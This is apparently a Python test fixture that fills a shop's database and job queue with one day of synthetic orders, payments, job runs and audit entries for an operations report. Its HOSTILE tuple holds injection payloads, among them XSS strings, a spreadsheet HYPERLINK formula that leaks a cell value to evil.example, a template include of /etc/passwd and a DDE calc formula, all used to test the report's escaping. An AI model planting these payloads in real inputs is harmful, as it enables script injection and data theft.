"""What the tests of the report share: a shop with something of everything on one day, some of it an enemy's."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

import psycopg
from psycopg.types.json import Jsonb
from redis import Redis

from opslib.storage import Place, Storage
from tests.service.s3_kit import env_at

HOSTILE = (
    "<script>alert(document.domain)</script>",
    '"><svg onload=alert(1)>',
    "\u202eexe.gnp\u200f<img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?"&A1;"here")',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "+cmd|' /C calc'!A0",
    "n" * 10_000,
)
STATUSES = ("fulfilled", "fulfilled", "paid", "underpaid", "waiting", "expired", "failed")
ORDERS = 240


def yesterday() -> date:
    """The day reported on: over, and settled but for the first minute after midnight."""
    return datetime.now(UTC).date() - timedelta(days=1)


def a_shop(dsn: str, day: date, *, orders: int = ORDERS) -> None:
    """Orders, payments, calls, reservations and keys of that day, some of the day before; names an enemy chose."""
    start = datetime.combine(day, time(1))
    with psycopg.connect(dsn, autocommit=True) as app:
        for n in range(orders):
            at = start + timedelta(minutes=5 * n % 1200) - timedelta(days=n % 9 == 0)
            bad = HOSTILE[n % len(HOSTILE)]
            status = STATUSES[n % len(STATUSES)]
            row = app.execute(
                """INSERT INTO orders (email, status, "totalCrypto", "createdAt", "updatedAt", "kinguinReservationId")
                   VALUES (%s, %s, %s, %s, %s, %s) RETURNING id""",
                (f"{bad[:200]}{n}@example.com", status, 9.99 + n, at, at, bad[:255] if n % 5 == 0 else None),
            ).fetchone()
            assert row
            payment = (
                "finished" if status in ("fulfilled", "paid") else "underpaid" if status == "underpaid" else "waiting"
            )
            app.execute(
                """INSERT INTO payments ("orderId", "externalId", provider, status, "priceAmount", "payCurrency",
                       "createdAt") VALUES (%s, %s, %s, %s, %s, %s, %s)""",
                (row[0], f"{bad}{n}", "nowpayments" if n % 3 else bad, payment, 9.99, bad, at),
            )
            result = {"success": False, "error": bad} if n % 6 == 0 else {"success": True}
            app.execute(
                """INSERT INTO webhook_logs ("externalId", "webhookType", payload, "signatureValid", processed, result,
                       "orderId", error, "createdAt") VALUES (%s, %s, '{}', true, %s, %s, %s, %s, %s)""",
                (
                    *(f"{bad[:200]}{n}", ("nowpayments_ipn", "kinguin_order_status", bad[:50])[n % 3], n % 6 != 0),
                    *(Jsonb(result), row[0], bad if n % 6 == 0 else None, at),
                ),
            )
        app.execute(
            """INSERT INTO product_inventory ("productId", "itemDataEncrypted", "encryptionIv", "authTag", status,
                   "reservedForOrderId", "reservedAt", cost)
               SELECT gen_random_uuid(), 'x', 'x', 'x', 'reserved', id, "createdAt" AT TIME ZONE 'UTC', 3.5
               FROM orders WHERE status = 'failed' LIMIT 5"""
        )
        noon = datetime.combine(day, time(12), UTC)
        app.execute('UPDATE feature_flags SET "updatedAt" = %s, name = name || %s', (noon, HOSTILE[1]))
        _ours(app, noon)
        app.execute("ANALYZE")


def _ours(owner: psycopg.Connection[Any], noon: datetime) -> None:
    """Jobs, runs, slots, the audit, balances."""
    owner.execute(
        """SELECT ops.job_declare(jsonb_agg(jsonb_build_object(
               'job', job, 'title', 'a job', 'queue', 'default', 'schedule', 'every 600', 'timeout_seconds', 60,
               'max_age_seconds', 90000, 'retries', 0, 'retry_seconds', 2, 'catch_up', 'latest',
               'missing', '{}'::text[])), 'test', true) FROM unnest(%s::text[]) AS job""",
        (["backup-database", "cleanup", "flag-sync", HOSTILE[0]],),
    )
    for n in range(48):
        job = ("backup-database", "cleanup", "flag-sync", HOSTILE[0])[n % 4]
        slot = noon - timedelta(hours=12) + timedelta(minutes=30 * n)
        failed = n % 11 == 0
        run = owner.execute(
            """INSERT INTO ops.job_runs (job, slot, queue, priority, timeout_seconds, retries, retry_seconds,
                   foreground, params, params_shown, triggered_by, queued_at, due_at, attempts, started_at, finished_at,
                   outcome, error)
               VALUES (%s, %s, 'default', 0, 60, 0, 2, false, '{}', '{}', 'schedule', %s, %s, 1, %s, %s, %s, %s)
               RETURNING id""",
            (
                *(job, slot, slot, slot, slot, slot + timedelta(seconds=n)),
                *("FAILED" if failed else "SUCCESS", HOSTILE[n % len(HOSTILE)] if failed else None),
            ),
        ).fetchone()
        assert run
        skipped = n % 13 == 5
        owner.execute(
            "INSERT INTO ops.job_slots (job, slot, run) VALUES (%s, %s, %s)", (job, slot, None if skipped else run[0])
        )
    for bad in HOSTILE:
        owner.execute(
            "SELECT ops.audit_append('OPS_X', 'orders.show', 'allowed', %s, '{}', %s, '', 'host', NULL, 5)",
            (bad[:1000], bad[:2000]),
        )
    for hours in range(48):
        owner.execute(
            "INSERT INTO ops.balances (provider, currency, amount, taken_at) VALUES ('kinguin', 'EUR', %s, %s)",
            (500 - 5 * hours, noon - timedelta(hours=48 - hours)),
        )


def a_queue(url: str, day: date, name: str = "mail") -> None:
    """A queue of BullMQ's layout with failed jobs, their names and reasons an enemy's."""
    noon = int(datetime.combine(day, time(12), UTC).timestamp() * 1000)
    with Redis.from_url(url) as client:
        client.hset(f"bull:{name}:meta", mapping={"opts.maxLenEvents": "10000", "version": "bullmq:5.63.0"})
        for n, bad in enumerate(HOSTILE):
            client.zadd(f"bull:{name}:failed", {str(n): noon + n})
            fields: Mapping[str, Any] = {
                "name": bad,
                "data": json.dumps({"bad": bad}),
                "opts": "{}",
                "timestamp": noon - 1000,
                "processedOn": noon - 500,
                "finishedOn": noon + n,
                "failedReason": bad,
                "atm": 3,
            }
            client.hset(f"bull:{name}:{n}", mapping=dict(fields))


def a_bucket(place: Place, dsn: str) -> dict[str, str]:
    """Three backups, one proven, one drilled; the settings of the bucket."""
    storage = Storage(place)
    storage.delete_many(one.key for one in storage.list(""))
    with psycopg.connect(dsn, autocommit=True) as owner:
        for n, day in enumerate(("2026-01-01", "2026-01-02", "2026-01-03")):
            key = f"backups/db/{day}.sql.gz"
            storage.put(key, b"x" * (1000 + 100 * n))
            if n:
                kind = ("verify", "drill")[n - 1]
                owner.execute("SELECT ops.backup_checked(%s, %s, true, 'x', 1000, %s, '', NULL)", (key, kind, 12.5))
    return env_at(place)


def settings_of(dsn: str, redis_url: str, place: Mapping[str, str]) -> dict[str, str]:
    """The environment of a report about all of it."""
    return {"DATABASE_URL": dsn, "REDIS_URL": redis_url, **place}
